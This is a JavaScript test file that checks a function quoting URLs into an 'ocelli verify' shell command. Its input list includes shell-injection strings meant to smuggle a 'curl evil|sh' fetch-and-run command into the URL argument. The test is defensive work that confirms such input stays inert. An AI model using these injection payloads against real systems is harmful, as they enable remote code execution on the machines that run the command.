import assert from "node:assert/strict";
import { test } from "node:test";
import { verifyCommand } from "./verify_command.js";

test("an address is one word of the command, whatever it holds", () => {
  assert.equal(verifyCommand("http://127.0.0.1:8545", "e.bin"), "ocelli verify --url 'http://127.0.0.1:8545' --evidence e.bin");
  assert.equal(verifyCommand("https://rpc.example/chain/?x=1#y", "e.bin"), "ocelli verify --url 'https://rpc.example/chain' --evidence e.bin");
  for (const url of ["http://evil/$(curl${IFS}evil|sh)", "http://evil$(x)/", "http://evil/';curl evil|sh;'", "http://evil/?a=';b", "http://ev'il/"]) {
    assert.match(verifyCommand(url, "e.bin"), /^ocelli verify --url '[^']*' --evidence e\.bin$/);
  }
});
